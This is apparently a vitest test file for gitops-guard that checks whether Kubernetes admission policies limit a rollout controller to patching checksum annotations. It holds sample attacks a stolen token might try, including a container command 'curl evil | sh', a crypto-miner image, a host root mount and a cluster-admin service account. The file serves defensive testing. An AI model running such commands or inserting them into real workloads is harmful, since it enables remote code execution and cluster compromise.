import { Environment } from '@marcbachmann/cel-js';
import * as clientNode from '@kubernetes/client-node';
import { beforeAll, describe, expect, it } from 'vitest';
import type { KubeObject } from '../src/api/types.js';
import { locatePodTemplate } from '../src/actions/checksum/pod-template.js';
import { annotationPatch } from '../src/controller/reconcile.js';
import { buildReports, CHECKS, type ReportFormat } from '../src/report/index.js';
import { corpusObject } from './support/corpus.js';
import { buildOverlays, CONTROLLER_OVERLAYS, objects, OVERLAYS, hasController } from './support/manifests.js';

/**
 * The ValidatingAdmissionPolicies the controller component installs, evaluated with a CEL
 * implementation the way the API server evaluates them (matchConditions, then variables, then
 * every validation; an evaluation error denies, as failurePolicy Fail says), against updates the
 * rollout controller really sends and against what a stolen token would try.
 */

beforeAll(buildOverlays);

const CONTROLLER = 'system:serviceaccount:gitops-guard:gitops-guard-controller';
const A = 'gitops-guard.dev/config-checksum';
const CHECKSUM = (c: string) => `v2:${c.repeat(64)}`;

interface Policy {
  metadata: { name: string };
  spec: {
    failurePolicy: string;
    matchConstraints: { resourceRules: { apiGroups: string[]; resources: string[]; operations: string[] }[] };
    matchConditions: { name: string; expression: string }[];
    variables?: { name: string; expression: string }[];
    validations: { expression: string; message: string }[];
  };
}

const environment = new Environment({ unlistedVariablesAreDyn: true, homogeneousAggregateLiterals: false });
const parsed = new Map<string, ReturnType<Environment['parse']>>();
/** Each expression is parsed once, as the API server compiles a policy once. */
const cel = {
  evaluate(expression: string, context: Record<string, unknown>): unknown {
    let program = parsed.get(expression);
    if (!program) parsed.set(expression, (program = environment.parse(expression)));
    return program(context);
  },
};
const policies = (): Policy[] => objects('controller').filter((o) => o.kind === 'ValidatingAdmissionPolicy') as unknown as Policy[];
const policyFor = (resource: string) => policies().find((p) => p.spec.matchConstraints.resourceRules.some((r) => r.resources.includes(resource)))!;

/** The API server's verdict: null when admitted, else the first failing validation's message. */
function admit(policy: Policy, operation: 'CREATE' | 'UPDATE' | 'DELETE', object: KubeObject | null, oldObject: KubeObject | null, username = CONTROLLER): string | null {
  const request = { operation, userInfo: { username, groups: ['system:serviceaccounts', 'system:authenticated'] } };
  const base = { object, oldObject, request };
  if (!policy.spec.matchConditions.every((c) => cel.evaluate(c.expression, base) === true)) return null;
  // Variables are evaluated lazily by the API server; an error in one surfaces where it is used.
  const variables: Record<string, unknown> = {};
  const errors = new Map<string, unknown>();
  for (const variable of policy.spec.variables ?? []) {
    try {
      variables[variable.name] = cel.evaluate(variable.expression, { ...base, variables });
    } catch (error) {
      errors.set(variable.name, error);
    }
  }
  for (const validation of policy.spec.validations) {
    const uses = [...errors.keys()].filter((name) => validation.expression.includes(`variables.${name}`));
    if (uses.length > 0) return `${validation.message} (error in ${uses.join(', ')})`;
    let result: unknown;
    try {
      result = cel.evaluate(validation.expression, { ...base, variables });
    } catch {
      return `${validation.message} (evaluation error: failurePolicy ${policy.spec.failurePolicy})`;
    }
    if (result !== true) return validation.message;
  }
  return null;
}

/** RFC 7386, as the API server applies the controller's patch. */
function mergePatch(target: unknown, patch: unknown): unknown {
  if (typeof patch !== 'object' || patch === null || Array.isArray(patch)) return patch;
  const result: Record<string, unknown> = typeof target === 'object' && target !== null && !Array.isArray(target) ? { ...(target as Record<string, unknown>) } : {};
  for (const [key, value] of Object.entries(patch)) {
    if (value === null) delete result[key];
    else result[key] = mergePatch(result[key], value);
  }
  return result;
}

/** What the rollout controller sends: `annotationPatch` of src/controller/reconcile.ts, merged by the API server. */
function controllerUpdate(object: KubeObject, value: string | null): KubeObject {
  const { workload } = locatePodTemplate(object)!;
  const patch = annotationPatch(workload.templatePath, object.metadata?.resourceVersion, A, value);
  return mergePatch(structuredClone(object), patch) as KubeObject;
}

function stamped(object: KubeObject, value = CHECKSUM('a')): KubeObject {
  return controllerUpdate(structuredClone(object), value);
}

/** Each sample is built once (the corpus files are large); every call returns a fresh copy. */
function once(build: () => KubeObject): () => KubeObject {
  let built: KubeObject | undefined;
  return () => structuredClone((built ??= build()));
}
const deployment = once(() => stamped(corpusObject('argocd-install.yaml', 'Deployment', 'argocd-server')));
const statefulSet = once(() => stamped(corpusObject('argocd-install.yaml', 'StatefulSet', 'argocd-application-controller')));
const daemonSet = once(() => stamped(corpusObject('calico-etcd.yaml', 'DaemonSet', 'calico-node')));
const cronJob = once(() =>
  stamped({
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    metadata: { name: 'report', namespace: 'apps', labels: { app: 'report' } },
    spec: {
      schedule: '0 3 * * *',
      concurrencyPolicy: 'Forbid',
      jobTemplate: {
        metadata: { labels: { app: 'report' } },
        spec: { backoffLimit: 2, template: { spec: { restartPolicy: 'OnFailure', containers: [{ name: 'report', image: 'report:1', envFrom: [{ configMapRef: { name: 'report' } }] }] } } },
      },
    },
  }),
);
const rollout = once(() =>
  stamped({
    apiVersion: 'argoproj.io/v1alpha1',
    kind: 'Rollout',
    metadata: { name: 'web', namespace: 'apps' },
    spec: {
      replicas: 3,
      selector: { matchLabels: { app: 'web' } },
      strategy: { canary: { steps: [{ setWeight: 20 }, { pause: {} }] } },
      template: { metadata: { labels: { app: 'web' } }, spec: { containers: [{ name: 'web', image: 'web:1', envFrom: [{ configMapRef: { name: 'web' } }] }] } },
    },
  }),
);

const WORKLOADS: { resource: string; make: () => KubeObject; specType?: string; specFields?: string[] }[] = [
  { resource: 'deployments', make: deployment, specType: 'V1DeploymentSpec' },
  { resource: 'statefulsets', make: statefulSet, specType: 'V1StatefulSetSpec' },
  { resource: 'daemonsets', make: daemonSet, specType: 'V1DaemonSetSpec' },
  { resource: 'cronjobs', make: cronJob, specType: 'V1CronJobSpec' },
  // Argo Rollouts' RolloutSpec (v1.7); no Kubernetes type to read it from.
  {
    resource: 'rollouts',
    make: rollout,
    specFields: ['replicas', 'selector', 'template', 'workloadRef', 'minReadySeconds', 'revisionHistoryLimit', 'paused', 'progressDeadlineSeconds', 'progressDeadlineAbort', 'restartAt', 'rollbackWindow', 'strategy', 'analysis'],
  },
];

const attributes = (type: string) =>
  (clientNode as unknown as Record<string, { getAttributeTypeMap(): { baseName: string }[] }>)[type]!.getAttributeTypeMap().map((a) => a.baseName);

/** The pod template's own object (spec.template, or the CronJob's jobTemplate.spec.template). */
const templateOf = (object: KubeObject) => locatePodTemplate(object)!.template as Record<string, any>;

describe('ValidatingAdmissionPolicies for the rollout controller', () => {
  it('are installed with their bindings wherever the controller is, and nowhere else', () => {
    for (const overlay of OVERLAYS) {
      const vaps = objects(overlay).filter((o) => o.kind === 'ValidatingAdmissionPolicy');
      const bindings = objects(overlay).filter((o) => o.kind === 'ValidatingAdmissionPolicyBinding') as any[];
      if (!hasController(overlay)) {
        expect(vaps, overlay).toEqual([]);
        continue;
      }
      expect(vaps.map((v) => v.metadata!.name).sort()).toEqual([...WORKLOADS.map((w) => `gitops-guard-controller-${w.resource}`), 'gitops-guard-controller-reports'].sort());
      for (const vap of vaps as unknown as Policy[]) {
        const binding = bindings.find((b) => b.spec.policyName === vap.metadata.name);
        expect(binding?.spec.validationActions, vap.metadata.name).toEqual(['Deny']);
        expect(vap.spec.failurePolicy).toBe('Fail');
        expect(vap.spec.matchConditions.map((c) => c.expression)).toEqual([`request.userInfo.username == '${CONTROLLER}'`]);
        for (const rule of vap.spec.matchConstraints.resourceRules) expect([...rule.operations].sort(), vap.metadata.name).toEqual(['CREATE', 'DELETE', 'UPDATE']);
      }
    }
    expect(CONTROLLER_OVERLAYS.length).toBeGreaterThan(0);
    // The policies cover exactly the resources the controller's ClusterRole may patch.
    const role = objects('controller').find((o) => o.kind === 'ClusterRole' && o.metadata?.name === 'gitops-guard-controller') as any;
    const patchable = role.rules.filter((r: { verbs: string[] }) => r.verbs.includes('patch')).flatMap((r: { resources: string[] }) => r.resources).sort();
    expect(policies().flatMap((p) => p.spec.matchConstraints.resourceRules.flatMap((r) => r.resources)).sort()).toEqual(patchable);
    // The service account the policies name is the one the controller runs as.
    const sa = objects('controller').find((o) => o.kind === 'ServiceAccount' && o.metadata?.name === 'gitops-guard-controller')!;
    expect(CONTROLLER).toBe(`system:serviceaccount:${sa.metadata!.namespace}:${sa.metadata!.name}`);
  });

  for (const { resource, make } of WORKLOADS) {
    describe(resource, () => {
      it('admit the controller\'s own patches: change, add and remove the checksum annotation', () => {
        const policy = policyFor(resource);
        const live = make();
        expect(admit(policy, 'UPDATE', controllerUpdate(live, CHECKSUM('b')), live)).toBeNull();
        expect(admit(policy, 'UPDATE', controllerUpdate(live, null), live)).toBeNull();
        // A template without any annotation (or, for a CronJob, without metadata) gets its first one.
        const bare = structuredClone(live);
        const template = templateOf(bare);
        if (resource === 'cronjobs') delete template.metadata;
        else delete template.metadata.annotations;
        expect(admit(policy, 'UPDATE', controllerUpdate(bare, CHECKSUM('c')), bare)).toBeNull();
        // Other users are not this policy's business.
        const other = structuredClone(live);
        templateOf(other).spec.containers[0].image = 'anything:latest';
        expect(admit(policy, 'UPDATE', other, live, 'system:serviceaccount:argocd:argocd-application-controller')).toBeNull();
      });

      it('deny what a stolen token would try: other images, commands, volumes, labels, creating or deleting', () => {
        const policy = policyFor(resource);
        const live = make();
        const attempts: [string, (o: KubeObject) => void][] = [
          ['another image', (o) => (templateOf(o).spec.containers[0].image = 'attacker/miner:latest')],
          ['a command', (o) => (templateOf(o).spec.containers[0].command = ['sh', '-c', 'curl evil | sh'])],
          ['a host path volume', (o) => (templateOf(o).spec.volumes = [...(templateOf(o).spec.volumes ?? []), { name: 'host', hostPath: { path: '/' } }])],
          ['a service account', (o) => (templateOf(o).spec.serviceAccountName = 'cluster-admin')],
          ['a pod template label', (o) => (templateOf(o).metadata.labels = { ...templateOf(o).metadata.labels, extra: 'x' })],
          ['a second pod template annotation', (o) => (templateOf(o).metadata.annotations = { ...templateOf(o).metadata.annotations, 'sidecar.istio.io/inject': 'false' })],
          ['a checksum that is no checksum', (o) => (templateOf(o).metadata.annotations[A] = 'pwned')],
          ['a pod template finalizer', (o) => (templateOf(o).metadata.finalizers = ['x/y'])],
          ['a workload label', (o) => (o.metadata!.labels = { ...o.metadata!.labels, owner: 'attacker' })],
          ['a workload annotation', (o) => (o.metadata!.annotations = { ...o.metadata!.annotations, note: 'x' })],
          ['a workload finalizer', (o) => (o.metadata!.finalizers = ['attacker.example/block'])],
          ['an owner reference', (o) => (o.metadata!.ownerReferences = [{ apiVersion: 'v1', kind: 'ConfigMap', name: 'x', uid: 'u' }] as never)],
        ];
        for (const [what, change] of attempts) {
          const attempt = controllerUpdate(live, CHECKSUM('b'));
          change(attempt);
          expect(admit(policy, 'UPDATE', attempt, live), `${resource}: ${what}`).not.toBeNull();
        }
        expect(admit(policy, 'CREATE', live, null)).toBe(`the rollout controller may update ${resource}, never create or delete them`);
        expect(admit(policy, 'DELETE', null, live)).not.toBeNull();
      });
    });
  }

  it('compare every field of every kind\'s spec: changing any one of them is denied', () => {
    const sentinel = { 'changed-by': 'a stolen token' };
    for (const { resource, make, specType, specFields } of WORKLOADS) {
      const policy = policyFor(resource);
      const fields = (specFields ?? attributes(specType!)).filter((f) => f !== 'template' && f !== 'jobTemplate');
      expect(fields.length, resource).toBeGreaterThan(3);
      for (const field of fields) {
        const live = make();
        const attempt = structuredClone(live) as any;
        attempt.spec[field] = sentinel;
        expect(admit(policy, 'UPDATE', attempt, live), `${resource}.spec.${field}`).not.toBeNull();
        // Removing a field that is set is a change too.
        if (live.spec && (live as any).spec[field] !== undefined) {
          delete attempt.spec[field];
          expect(admit(policy, 'UPDATE', attempt, live), `${resource}.spec.${field} removed`).not.toBeNull();
        }
      }
      if (resource === 'cronjobs') {
        for (const field of attributes('V1JobSpec').filter((f) => f !== 'template')) {
          const live = make();
          const attempt = structuredClone(live) as any;
          attempt.spec.jobTemplate.spec[field] = sentinel;
          expect(admit(policy, 'UPDATE', attempt, live), `cronjobs.spec.jobTemplate.spec.${field}`).not.toBeNull();
        }
        const live = make();
        const attempt = structuredClone(live) as any;
        attempt.spec.jobTemplate.metadata.labels.extra = 'x';
        expect(admit(policy, 'UPDATE', attempt, live), 'cronjobs.spec.jobTemplate.metadata').not.toBeNull();
      }
    }
  });

  it('compare every metadata field a client can set, on the workload and on its pod template', () => {
    // Fields the API server owns (or that cannot change on update) are left out on purpose.
    const serverOwned = ['creationTimestamp', 'deletionGracePeriodSeconds', 'deletionTimestamp', 'generation', 'managedFields', 'resourceVersion', 'selfLink', 'uid'];
    const immutable = ['name', 'namespace', 'generateName'];
    const settable = attributes('V1ObjectMeta').filter((f) => !serverOwned.includes(f) && !immutable.includes(f));
    expect(settable.sort()).toEqual(['annotations', 'finalizers', 'labels', 'ownerReferences']);
    const policy = policyFor('deployments');
    for (const field of attributes('V1ObjectMeta').filter((f) => !serverOwned.includes(f) && f !== 'annotations')) {
      const live = deployment();
      const attempt = structuredClone(live) as any;
      templateOf(attempt).metadata[field] = field === 'labels' ? { x: 'y' } : field.endsWith('s') ? ['x'] : 'x';
      expect(admit(policy, 'UPDATE', attempt, live), `template metadata.${field}`).not.toBeNull();
    }
  });
});

describe('the policy on the rollout controller\'s policy reports', () => {
  const policy = () => policyFor('policyreports');
  const FORMATS: ReportFormat[] = ['policyreport', 'openreports'];
  /** The reports the controller applies (src/scan/report-writer.ts builds them with buildReports). */
  const reports = (format: ReportFormat) =>
    buildReports(
      [
        { ...CHECKS.sharedObject, result: 'fail', message: 'claimed twice', resource: { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', name: 'b' } },
        { ...CHECKS.staleChecksum, result: 'pass', message: 'fine', resource: { apiVersion: 'apps/v1', kind: 'Deployment', namespace: 'shop', name: 'web' } },
      ],
      { format, now: new Date('2026-01-01T00:00:00Z') },
    ) as unknown as KubeObject[];
  const foreign = (report: KubeObject) => ({ ...report, metadata: { name: 'kyverno-polr', ...(report.metadata?.namespace ? { namespace: report.metadata.namespace } : {}), labels: { 'app.kubernetes.io/managed-by': 'kyverno' } } });

  it('covers both report APIs, cluster-wide and namespaced', () => {
    for (const resource of ['policyreports', 'clusterpolicyreports', 'reports', 'clusterreports']) expect(policyFor(resource), resource).toBe(policy());
  });

  it.each(FORMATS)('%s: admits what the controller writes (create, then update), denies forging, taking over or deleting reports', (format) => {
    for (const report of reports(format)) {
      const what = `${report.kind} ${report.metadata?.namespace ?? ''}`;
      expect(admit(policy(), 'CREATE', report, null), what).toBeNull();
      expect(admit(policy(), 'UPDATE', report, report), what).toBeNull();
      // Another name, or without gitops-guard's label: a forged report.
      expect(admit(policy(), 'CREATE', { ...report, metadata: { ...report.metadata, name: 'kyverno-polr' } }, null), what).toMatch(/writes only the policy reports named gitops-guard/);
      expect(admit(policy(), 'CREATE', { ...report, metadata: { name: 'gitops-guard', ...(report.metadata?.namespace ? { namespace: report.metadata.namespace } : {}) } }, null), what).toMatch(/writes only the policy reports named gitops-guard/);
      // A report named gitops-guard that someone else wrote is not taken over.
      const theirs = { ...report, metadata: { ...report.metadata, labels: { 'app.kubernetes.io/managed-by': 'someone-else' } } };
      expect(admit(policy(), 'UPDATE', report, theirs), what).toBe('the rollout controller may not take over a policy report gitops-guard did not write');
      expect(admit(policy(), 'UPDATE', report, foreign(report)), what).not.toBeNull();
      expect(admit(policy(), 'DELETE', null, report), what).toBe('the rollout controller deletes no policy report');
      // Other users (Kyverno, people) are not this policy's business.
      expect(admit(policy(), 'CREATE', foreign(report), null, 'system:serviceaccount:kyverno:kyverno-reports-controller')).toBeNull();
      expect(admit(policy(), 'DELETE', null, report, 'kubernetes-admin')).toBeNull();
    }
  });
});
